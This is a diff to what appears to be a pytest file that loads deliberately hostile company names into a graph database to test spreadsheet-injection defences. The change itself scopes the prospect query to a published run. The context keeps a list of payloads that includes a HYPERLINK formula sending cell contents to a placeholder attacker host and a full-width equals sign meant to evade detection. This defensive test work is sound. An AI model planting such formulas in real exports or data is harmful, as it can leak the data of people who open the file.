@@ -21,7 +21,7 @@ from core.spreadsheet import FORMULA_TRIGGERS
 from graph.database import Database
 from graph.users import UserStore
 
-from .conftest import cli_env, run_cli
+from .conftest import cli_env, published, run_cli
 
 HOSTILE = (
     '=HYPERLINK("http://evil.invalid/?x="&A1,"点击")',
@@ -34,7 +34,7 @@ HOSTILE = (
     "＝1+1",
 )
 PROSPECTS = (
-    "MATCH (p:Company) WHERE p.prospect_score IS NOT NULL "
+    "MATCH (p:Prospect {run_id: $prospect_run}) "
     "RETURN p.company_id AS id ORDER BY p.prospect_score DESC, id LIMIT $n"
 )
 CUSTOMERS = "MATCH (c:Customer) RETURN c.company_id AS id ORDER BY id LIMIT $n"
@@ -50,7 +50,7 @@ def hostile_bank(database: Database, tmp_path_factory: pytest.TempPathFactory) -
     run_cli("load", str(out), env=env)
     run_cli("compute", "--only", "prospects", env=env)
     n = len(HOSTILE)
-    targets = [r["id"] for r in database.read(PROSPECTS, {"n": n})]
+    targets = [r["id"] for r in database.read(PROSPECTS, {"n": n, **published(database)})]
     targets += [r["id"] for r in database.read(CUSTOMERS, {"n": n})]
     assert len(targets) == 2 * n
     rows = [{"id": t, "name": HOSTILE[i % n]} for i, t in enumerate(targets)]
